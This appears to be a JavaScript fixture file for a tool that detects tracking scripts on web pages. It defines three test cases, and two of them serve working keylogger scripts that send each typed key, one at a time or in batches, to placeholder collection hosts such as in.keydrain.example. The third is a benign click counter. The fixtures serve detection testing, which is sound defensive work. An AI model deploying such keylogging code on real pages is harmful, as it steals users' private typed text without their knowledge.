import { file, page } from '../write.mjs';

export default [
  {
    id: 'keys-one-by-one',
    reason: 'every key leaves for another company as it is pressed',
    host: 'sewing-patterns.example',
    page: page({
      body: '<textarea aria-label="Message"></textarea><script src="https://cdn.keydrain.example/k.js"></script>',
    }),
    web: {
      'cdn.keydrain.example': {
        '/k.js': file(() => {
          addEventListener(
            'keydown',
            ({ key }) =>
              void fetch('https://in.keydrain.example/k', {
                method: 'POST',
                body: JSON.stringify({ key }),
              }),
          );
        }),
      },
    },
    actions: [
      { wait: 300 },
      { type: { sel: 'textarea', text: 'My landlord never answers' } },
      { wait: 800 },
    ],
    proof: ['in.keydrain.example/k'],
    expect: [{ kind: 'keylog', host: 'in.keydrain.example' }],
    allow: ['leak'],
  },
  {
    id: 'keys-in-lots',
    reason: 'keys are gathered and leave together, whatever the field is for',
    host: 'bonsai-letters.example',
    page: page({
      body: '<textarea aria-label="Message"></textarea><script src="https://cdn.keybatch.example/k.js"></script>',
    }),
    web: {
      'cdn.keybatch.example': {
        '/k.js': file(() => {
          let keys = [];
          document.addEventListener('keyup', ({ key, timeStamp }) =>
            keys.push([key, Math.round(timeStamp)]),
          );
          setInterval(() => {
            if (keys.length === 0) return;
            navigator.sendBeacon('https://in.keybatch.example/k', JSON.stringify({ keys }));
            keys = [];
          }, 800);
        }),
      },
    },
    actions: [
      { wait: 300 },
      { type: { sel: 'textarea', text: 'The maple lost its leaves early' } },
      { wait: 1500 },
    ],
    proof: ['in.keybatch.example/k'],
    expect: [{ kind: 'keylog', host: 'in.keybatch.example' }],
    allow: ['leak'],
  },
  {
    id: 'ok-heat-of-clicks',
    reason: 'a measuring company counts clicks by button, without where the pointer went',
    host: 'ladder-store.example',
    page: page({
      body: '<button id="a">Lengths</button><script src="https://cdn.clickcount.example/c.js"></script>',
    }),
    web: {
      'cdn.clickcount.example': {
        '/c.js': file(() => {
          document.addEventListener('click', ({ target }) =>
            navigator.sendBeacon(
              'https://in.clickcount.example/c',
              JSON.stringify({ event: 'click', id: target.id }),
            ),
          );
        }),
      },
    },
    actions: [{ wait: 300 }, { click: '#a' }, { click: '#a' }, { wait: 400 }],
    proof: ['in.clickcount.example/c'],
  },
];
